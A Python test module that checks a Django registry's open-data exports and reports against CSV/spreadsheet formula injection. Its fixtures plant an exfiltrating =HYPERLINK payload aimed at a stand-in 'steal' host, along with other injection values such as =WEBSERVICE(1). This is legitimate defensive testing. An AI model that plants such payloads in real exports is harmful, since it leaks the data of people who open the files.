"""Every open-data export and report keeps a formula-like value as text (issue 11, point 4).

An organisation named ``=HYPERLINK(…)`` must not become a live link in the spreadsheet of whoever opens
the registry: the exports prefix such values with ``'`` (OWASP), the tests parse each format and, where
LibreOffice Calc is installed, open the CSV in it and look for formulas.
"""

import csv
import io
import json
import shutil
import subprocess

import openpyxl
import pytest
from django.utils import translation

from cms.exports import FORMULA_START
from registry.models import FieldOfActivity, Organization, OrganizationKind
from reports.models import MonthlyReportNotes
from reports.monthly import build_report
from reports.render import to_docx, to_html, to_markdown
from tests import factories as f

from .conftest import NOVEMBER, make_organization
from .test_monthly_report import docx_lines

pytestmark = pytest.mark.django_db

STEAL = '=HYPERLINK("http://x.example/steal?d="&A1,"Натисніть")'
DATASETS = ["acts", "commission-documents", "organizations"]


@pytest.fixture
def hostile(sections):
    """A record in each dataset whose text fields start as formulas would."""
    f.ActPageFactory(parent=sections["acts"], title=STEAL, summary="+1+1", session="@SUM(A1:A9)")
    f.CommissionDocumentPageFactory(parent=sections["commission"], title="-2+3", number="=1")
    ngo = make_organization(OrganizationKind.NGO, "2000001", head="\t=1+1", address="\r=2+2")
    Organization.objects.filter(pk=ngo.pk).update(name=STEAL, short_name="@cmd")
    ngo.fields_of_activity.set([FieldOfActivity.objects.create(name="=WEBSERVICE(1)")])
    return sections


def download(client, url) -> str:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")  # the CSV opens with a BOM


def text_values(value):
    """Every string inside a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        for item in value:
            yield from text_values(item)
    elif isinstance(value, dict):
        for item in value.values():
            yield from text_values(item)


@pytest.mark.parametrize("name", DATASETS)
def test_no_csv_cell_starts_a_formula(client, hostile, name):
    rows = list(csv.reader(io.StringIO(download(client, f"/opendata/{name}.csv"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_START)]


@pytest.mark.parametrize("name", DATASETS)
def test_no_json_value_starts_a_formula(client, hostile, name):
    items = json.loads(download(client, f"/opendata/{name}.json"))["items"]
    values = list(text_values(items))
    assert values and not [value for value in values if value.startswith(FORMULA_START)]


@pytest.mark.parametrize("name", DATASETS)
def test_no_xlsx_cell_is_a_formula_or_starts_one(client, hostile, name):
    response = client.get(f"/opendata/{name}.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert texts and not [text for text in texts if text.startswith(FORMULA_START)]


def test_organisations_xlsx_keeps_the_hostile_name_as_text(client, hostile):
    response = client.get("/opendata/organizations.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    [name] = [row[header.index("name")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert name == "'" + STEAL


def test_a_control_character_before_a_formula_leaves_the_xlsx_and_the_formula_stays_text(client, db):
    """The workbook's XML may not hold «\x01»: dropped, it would have let «=1+1» start the cell."""
    make_organization(OrganizationKind.NGO, "2000002", head="\x01=1+1")
    response = client.get("/opendata/organizations.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    head = sheet.cell(row=2, column=header.index("head") + 1)
    assert (head.value, head.data_type) == ("'=1+1", "s")


def test_organisations_csv_keeps_the_hostile_name_readable_as_text(client, hostile):
    rows = list(csv.DictReader(io.StringIO(download(client, "/opendata/organizations.csv"), newline="")))
    assert [row["name"] for row in rows] == ["'" + STEAL]
    assert rows[0]["fields_of_activity"] == "'=WEBSERVICE(1)" and rows[0]["head"] == "'\t=1+1"


def test_organisations_json_list_items_are_neutralised_one_by_one(client, hostile):
    [item] = json.loads(download(client, "/opendata/organizations.json"))["items"]
    assert item["name"] == "'" + STEAL and item["fields_of_activity"] == ["'=WEBSERVICE(1)"]


def test_monthly_report_keeps_a_formula_like_note_as_text_in_every_format(db):
    MonthlyReportNotes.objects.create(month=NOVEMBER, bullets=f"{STEAL}\n+380 дзвінків")
    with translation.override("uk"):
        report = build_report(month=NOVEMBER)
    expected = ["'" + STEAL, "'+380 дзвінків"]
    assert docx_lines(to_docx(report))[-2:] == expected
    assert [line[2:] for line in to_markdown(report).splitlines()[-2:]] == expected
    html = to_html(report)
    assert "&#x27;=HYPERLINK(" in html and "<li>=HYPERLINK" not in html


CALC = shutil.which("soffice") or shutil.which("libreoffice")


def calc_formulas(csv_text: str, tmp_path) -> tuple[list, list]:
    """``csv_text`` opened in LibreOffice Calc (formulas evaluated) and saved as XLSX: (formulas, values)."""
    source = tmp_path / "export.csv"
    source.write_text(csv_text, encoding="utf-8")
    result = subprocess.run(
        [
            CALC,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/lo-profile",
            # CSV import: comma, double quote, UTF-8 (76), from line 1; token 13 "evaluate formulas" on.
            "--infilter=CSV:44,34,76,1,,0,false,false,false,false,false,-1,true",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    target = tmp_path / "export.xlsx"
    if not target.exists():
        pytest.skip(f"LibreOffice Calc is not installed (libreoffice-calc-nogui): {result.stderr[-200:]}")
    cells = [cell for row in openpyxl.load_workbook(target).active.iter_rows() for cell in row]
    return [c.value for c in cells if c.data_type == "f"], [c.value for c in cells]


@pytest.mark.skipif(CALC is None, reason="LibreOffice is not installed")
def test_calc_would_run_the_name_as_a_formula_without_the_prefix(tmp_path):
    """The control: the check below can see a formula when there is one."""
    formulas, _values = calc_formulas(f'name\n"{STEAL.replace(chr(34), chr(34) * 2)}"\n', tmp_path)
    assert formulas and "HYPERLINK" in formulas[0]


@pytest.mark.skipif(CALC is None, reason="LibreOffice is not installed")
def test_calc_opens_the_organisations_csv_without_a_formula(client, hostile, tmp_path):
    formulas, values = calc_formulas(download(client, "/opendata/organizations.csv"), tmp_path)
    assert formulas == [] and any(STEAL in str(value) for value in values)
